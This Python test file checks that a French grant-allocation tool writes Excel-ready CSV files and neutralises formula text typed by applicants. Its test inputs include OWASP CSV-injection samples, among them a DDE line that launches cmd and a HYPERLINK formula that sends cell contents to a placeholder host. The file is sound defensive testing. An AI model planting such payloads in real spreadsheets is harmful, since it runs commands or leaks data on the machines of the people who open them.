"""CSV files a person may double-click open correctly in French Excel, and the tool reads them back (issues 14 and 15).

One writer (:func:`ditp_model.inputs.tables.csv_bytes`) for every table a person may open:
``allocation.csv`` (allocate, report), ``scores.csv`` (score), ``retours_candidats.csv``
(feedback), ``probabilites_financement.csv`` (lottery), ``candidatures.csv`` /
``evaluations.csv`` (import-ds).  What French Excel does with a double-clicked CSV is
modelled by :func:`excel_fr_cells`: it needs the BOM to read UTF-8, splits on the list
separator ``;``, and reads a cell as a number only with a decimal comma — a cell with a
point or an exponent becomes text or a date.  Applicant text that a spreadsheet would run
(``=HYPERLINK(…)``, ``+cmd``, ``-2+3``, ``@SUM(…)``) is neutralised by every writer and
read back as written.
"""

from __future__ import annotations

import ast
import csv
import io
import math
import re
from pathlib import Path

import ds_fixtures as F
import numpy as np
import pandas as pd
import pytest

from ditp_model.cli import main
from ditp_model.inputs.call import load_call_rules
from ditp_model.inputs.io import read_applications
from ditp_model.inputs.tables import csv_bytes, neutralise_formula, read_output_csv, restore_formula

ROOT = Path(__file__).resolve().parents[1]
DATA = ROOT / "data"
PACKAGE = ROOT / "ditp_model"
WEIGHTS = ["--weights", "impact=0.5,openness=0.3,collective=0.2"]

#: Applicant text a spreadsheet would run as a formula (OWASP "CSV Injection" examples), one per row of the tests.
FORMULAS = ['=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez ici")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "=1+1", "\t=2+2"]
#: A number as French Excel reads it from a CSV cell: digits, optional minus, decimal comma (no point, no exponent).
EXCEL_FR_NUMBER = re.compile(r"^-?\d+(,\d+)?$")


def excel_fr_cells(raw: bytes) -> list[list[str]]:
    """The cells French Excel shows for a double-clicked CSV: fails unless the BOM and the « ; » separator are there."""
    assert raw.startswith(b"\xef\xbb\xbf"), "sans BOM, Excel lit le fichier en Windows-1252 (« Ã© » au lieu de « é »)"
    text = raw[3:].decode("utf-8")
    header = text.split("\r\n", 1)[0]
    assert ";" in header and "," not in header, "Excel français sépare les cellules sur « ; »"
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def assert_no_live_formula(cells: list[list[str]], where: str) -> None:
    """No cell starts like a formula, except a number (``-1``, ``-0,5``), which Excel reads as a number."""
    for i, row in enumerate(cells, 1):
        for j, c in enumerate(row):
            if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert EXCEL_FR_NUMBER.match(c), f"{where} ligne {i} colonne {cells[0][j]} : « {c} » serait exécuté"


def assert_numbers_read_by_french_excel(cells: list[list[str]], columns, where: str) -> None:
    """Every non-blank cell of the numeric `columns` is a number for French Excel (decimal comma, no exponent)."""
    head = cells[0]
    for name in columns:
        j = head.index(name)
        for row in cells[1:]:
            assert row[j] == "" or EXCEL_FR_NUMBER.match(row[j]), f"{where} colonne {name} : « {row[j]} » ne serait pas un nombre"


# --------------------------------------------------------------------------- the writer itself


def test_neutralise_and_restore_are_inverse():
    for text in FORMULAS:
        shown = neutralise_formula(text)
        assert shown == "'" + text and restore_formula(shown) == text
    for text in ("Intitulé ordinaire", "'déjà entre apostrophes", "", "2+3", "l'équipe"):
        assert neutralise_formula(text) == text and restore_formula(text) == text
    for number in (-1, -2.5, 0):
        assert neutralise_formula(number) == number


def test_bytes_of_a_small_table_written_by_hand():
    t = pd.DataFrame({"application_id": ["007", "P2"], "title": ["=1+1", 'a "b"; c'], "score": [12.5, math.nan],
                      "requested_eur": [120000, 70000], "funded": [True, False], "partners": [("Un", "Deux"), ()]})
    expected = ('\ufeffapplication_id;title;score;requested_eur;funded;partners\r\n'
                "007;'=1+1;12,5;120000;True;\"Un; Deux\"\r\n"
                'P2;"a ""b""; c";;70000;False;\r\n')
    assert csv_bytes(t) == expected.encode("utf-8")


def test_round_trip_of_every_kind_of_column():
    t = pd.DataFrame({
        "application_id": ["007", "0012", "A-3"],
        "title": [FORMULAS[0], "ligne 1\nligne 2 ; « guillemets » \"doubles\"", "Élan, virgule"],
        "lead_org": [FORMULAS[1], FORMULAS[2], FORMULAS[3]],
        "requested_eur": np.array([120000, 0, 3_000_000_000], dtype="int64"),
        "needed_eur": np.array([-1, 98000, -1], dtype="int64"),
        "score": [77.5197, math.nan, 0.0001],
        "p_funded": [1e-7, 0.123456789012345, 1.0],
        "exit_margin": [math.inf, 2.5, math.nan],
        "funded": [True, False, False],
        "reasons": ["", "dépôt après la date limite ; maturité", ""],
    })
    raw = csv_bytes(t)
    cells = excel_fr_cells(raw)
    assert_no_live_formula(cells, "table")
    assert_numbers_read_by_french_excel(cells, ["requested_eur", "needed_eur", "score", "p_funded"], "table")
    back = read_output_csv(raw)
    pd.testing.assert_frame_equal(back, t, check_dtype=False)
    assert back["requested_eur"].dtype == "int64" and back["funded"].dtype == bool and back["application_id"].tolist() == ["007", "0012", "A-3"]
    assert back["p_funded"].tolist() == t["p_funded"].tolist()  # exact digits, no exponent written
    assert "e-" not in raw.decode("utf-8-sig")


def test_csv_text_is_the_same_writer():
    from ditp_model.inputs.io import csv_text

    t = pd.DataFrame({"application_id": ["A"], "title": ["=1+1"], "score": [0.5]})
    assert csv_text(t).encode("utf-8") == csv_bytes(t) and csv_bytes(t).startswith(b"\xef\xbb\xbf")


def test_blank_only_column_needs_its_type_and_str_reads_the_text():
    t = pd.DataFrame({"application_id": ["A"], "score_needed": [math.nan], "note": [""]})
    assert read_output_csv(csv_bytes(t))["score_needed"].tolist() == [""]
    back = read_output_csv(csv_bytes(t), dtype={"score_needed": float})
    assert math.isnan(back.at[0, "score_needed"]) and back.at[0, "note"] == ""
    assert read_output_csv(csv_bytes(t), dtype=str).iloc[0].tolist() == ["A", "", ""]
    with pytest.raises(ValueError, match="colonne « note » : la valeur"):
        read_output_csv(csv_bytes(pd.DataFrame({"note": ["douze"]})), dtype={"note": int})


def test_files_written_before_still_read():
    """A result folder of an earlier version (« , », decimal point, no BOM) reads with the same helper."""
    old = b"application_id,rule,p_funded,funded\nP001,merit_order,0.25,True\n007,merit_order,,False\n"
    back = read_output_csv(old)
    assert back["application_id"].tolist() == ["P001", "007"] and back["rule"].tolist() == ["merit_order"] * 2
    assert back.at[0, "p_funded"] == 0.25 and math.isnan(back.at[1, "p_funded"]) and back["funded"].tolist() == [True, False]


def test_one_writer_no_other_csv_or_excel_writer_in_the_package():
    """Every table goes through inputs/tables.csv_bytes or outputs/workbook: no ``to_csv`` / ``to_excel`` / ExcelWriter elsewhere."""
    allowed = {PACKAGE / "inputs" / "tables.py", PACKAGE / "outputs" / "workbook.py"}
    found = []
    for path in PACKAGE.rglob("*.py"):
        if path in allowed:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("to_csv", "to_excel", "ExcelWriter", "writerow", "writerows"):
                found.append(f"{path.relative_to(ROOT)}:{node.lineno} {node.attr}")
    assert found == []


# --------------------------------------------------------------------------- every writer, with formulas in applicant text


@pytest.fixture(scope="module")
def formula_applications(tmp_path_factory):
    """The sample applications with a formula in the title or the lead organisation of six of them."""
    d = tmp_path_factory.mktemp("formules")
    apps = pd.read_csv(DATA / "candidatures_exemple.csv", dtype=str, keep_default_na=False)
    planted = {}
    for k, text in enumerate(FORMULAS):
        col = "title" if k % 2 == 0 else "lead_org"
        apps.loc[k, col] = text
        planted[apps.loc[k, "application_id"]] = (col, text)
    apps.to_csv(d / "apps.csv", index=False)
    return d, planted


def test_allocate_and_report_table_neutralise_and_read_back(formula_applications, capsys):
    d, planted = formula_applications
    out = d / "alloc"
    assert main(["allocate", "--call", str(DATA / "appel_2021.toml"), "--applications", str(d / "apps.csv"),
                 "--reviews", str(DATA / "evaluations_exemple.csv"), *WEIGHTS, "--out", str(out), "--no-gaps", "--provisoire"]) == 0
    raw = (out / "allocation.csv").read_bytes()
    cells = excel_fr_cells(raw)
    assert_no_live_formula(cells, "allocation.csv")
    assert_numbers_read_by_french_excel(cells, ["requested_eur", "score", "impact_score", "award_eur", "needed_eur", "rank"],
                                        "allocation.csv")
    head = cells[0]
    by_id = {r[0]: r for r in cells[1:]}
    for aid, (col, text) in planted.items():  # the input reader strips the cells (« \t=2+2 » is read « =2+2 »)
        assert by_id[aid][head.index(col)] == "'" + text.strip()
    # Read back: the text as the applicant wrote it (the reader in inputs/io.py strips the tab of « \t=2+2 », as any cell).
    table = read_output_csv(raw)
    apps = read_applications(d / "apps.csv", load_call_rules(DATA / "appel_2021.toml")).set_index("application_id")
    for aid, (col, _text) in planted.items():
        assert table.set_index("application_id").at[aid, col] == apps.at[aid, col]
    # Every amount read back is the integer of the manifest.
    import json

    m = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert {r["application_id"]: r["award_eur"] for r in m["decisions"]} == dict(zip(table["application_id"], table["award_eur"]))
    assert table["award_eur"].dtype == "int64" and table["funded"].dtype == bool

    # The feedback CSV of the same decision (retours_candidats.csv) through the same writer.
    from ditp_model.outputs.feedback import feedback_files

    files = feedback_files(table, load_call_rules(DATA / "appel_2021.toml"))
    fb = excel_fr_cells(files["retours_candidats.csv"])
    assert_no_live_formula(fb, "retours_candidats.csv")
    back = read_output_csv(files["retours_candidats.csv"]).set_index("application_id")
    titles = table.set_index("application_id")["title"]
    assert all(back.at[a, "intitule"] == titles[a] for a in planted)


def test_score_neutralises(formula_applications, capsys):
    d, planted = formula_applications
    out = d / "score"
    assert main(["score", "--call", str(DATA / "appel_2021.toml"), "--applications", str(d / "apps.csv"),
                 "--reviews", str(DATA / "evaluations_exemple.csv"), *WEIGHTS, "--out", str(out)]) == 0
    raw = (out / "scores.csv").read_bytes()
    cells = excel_fr_cells(raw)
    assert_no_live_formula(cells, "scores.csv")
    assert_numbers_read_by_french_excel(cells, ["requested_eur", "score", "rank"], "scores.csv")
    head = cells[0]
    by_id = {r[0]: r for r in cells[1:]}
    for aid, (col, text) in planted.items():
        assert by_id[aid][head.index(col)] == "'" + text.strip()
    scores = read_output_csv(raw).set_index("application_id")
    assert len(scores) == 110 and scores.loc[scores["rank"].notna(), "score"].between(0, 100).all()


def test_lottery_writer_is_the_one_writer():
    """``probabilites_financement.csv`` is written by ``csv_bytes`` (the lottery itself is too slow for this file)."""
    src = (PACKAGE / "cli" / "lottery.py").read_text(encoding="utf-8")
    assert re.search(r'"probabilites_financement\.csv": csv_bytes\(', src)
    probs = pd.DataFrame({"application_id": ["P1", "P2"], "p_funded": [0.05, 0.95], "zone": ["not_funded", "funded"],
                          "rule": ["merit_order"] * 2, "expected_award_eur": [4950.5, 114000.0]})
    cells = excel_fr_cells(csv_bytes(probs))
    assert cells[1] == ["P1", "0,05", "not_funded", "merit_order", "4950,5"]
    pd.testing.assert_frame_equal(read_output_csv(csv_bytes(probs)), probs)


@pytest.mark.parametrize("fmt", ["csv", "ods"])
def test_import_ds_neutralises_and_allocate_reads_the_text_back(tmp_path, fmt, capsys):
    """Formulas typed by applicants in the platform's form: neutralised in candidatures.csv, read back as typed."""
    texts = {str(F.FIRST_ID + k): t for k, t in enumerate(FORMULAS[:4], start=1)}

    def edit(book):
        for did, text in texts.items():
            book.set("Dossiers", "ID", did, "Intitulé du projet (défi)", text)

    partners = "fields" if fmt == "csv" else "block"
    export = F.build(tmp_path / f"export.{fmt}", identity="siret", partners=partners, edit=edit).path
    (tmp_path / "m.toml").write_text(F.mapping_text(partners=partners), encoding="utf-8")
    out = tmp_path / "import"
    extra = ["--sans-blocs"] if fmt == "csv" else []
    assert main(["import-ds", str(export), "--mapping", str(tmp_path / "m.toml"), "--out", str(out), *extra]) == 0
    raw = (out / "candidatures.csv").read_bytes()
    cells = excel_fr_cells(raw)
    assert_no_live_formula(cells, "candidatures.csv")
    head = cells[0]
    titles = {r[head.index("application_id")]: r[head.index("title")] for r in cells[1:]}
    assert {did: titles[did] for did in texts} == {did: "'" + t for did, t in texts.items()}
    # The tool's own reader takes the prefix off: the title is the applicant's, as typed.
    apps = read_applications(out / "candidatures.csv", load_call_rules(DATA / "appel_2021.toml")).set_index("application_id")
    assert {did: apps.at[did, "title"] for did in texts} == texts
    if (out / "evaluations.csv").exists():
        ev = excel_fr_cells((out / "evaluations.csv").read_bytes())
        assert_no_live_formula(ev, "evaluations.csv")
        assert_numbers_read_by_french_excel(ev, [c for c in ev[0] if c not in ("application_id", "reviewer_id")],
                                            "evaluations.csv")
